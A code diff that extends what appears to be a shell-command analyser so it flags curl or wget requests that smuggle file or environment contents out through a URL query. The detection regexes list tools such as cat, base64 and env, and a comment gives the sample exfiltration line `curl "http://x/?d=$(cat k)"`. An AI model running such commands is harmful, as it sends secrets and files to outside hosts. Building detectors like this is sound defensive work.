@@ -94,8 +94,23 @@ export function outwardCommand(text: string): readonly Outward[] {
   });
 }
 
-function receivers({ name, args }: Command): readonly string[] {
-  if (CARRIERS[name]?.(args) !== true) return [];
+/** A request whose query is known only when it runs. */
+const TELLS_IN_QUERY = new RegExp(`^(?:https?://)?[\\w.-]+[^?${HOLE}]*\\?[^#]*${HOLE}`, 'i');
+/** A web address with the content of a file or of the environment in it. */
+const TELLS_CONTENT =
+  /^"?https?:\/\/[\w.-]+[/?][^"]*(?:\$\((?:<|[^)]*\b(?:cat|base64|base32|xxd|od|env|printenv|gzip|tar|head|tail)\b)|`(?:<|[^`]*\b(?:cat|base64|base32|xxd|od|env|printenv|gzip|tar|head|tail)\b))/i;
+
+/** Returns the addresses to which a request that only reads a page tells something: `curl "http://x/?d=$(cat k)"`. */
+const told = ({ words }: Command): readonly string[] =>
+  words
+    .filter(
+      ({ text, source, pos, end }) => TELLS_IN_QUERY.test(text) || TELLS_CONTENT.test(source.text.slice(pos, end)),
+    )
+    .map(({ text }) => text.split(HOLE)[0] ?? '');
+
+function receivers(command: Command): readonly string[] {
+  const { name, args } = command;
+  if (CARRIERS[name]?.(args) !== true) return /^(?:curl|wget|https?|xh)$/.test(name) ? told(command) : [];
   return args.flatMap((arg) => {
     // `@file` names a file whose content curl sends, so it is not an address.
     if (/^([\w-]+=)?@/.test(arg) || (arg.startsWith('-') && !arg.includes('='))) return [];
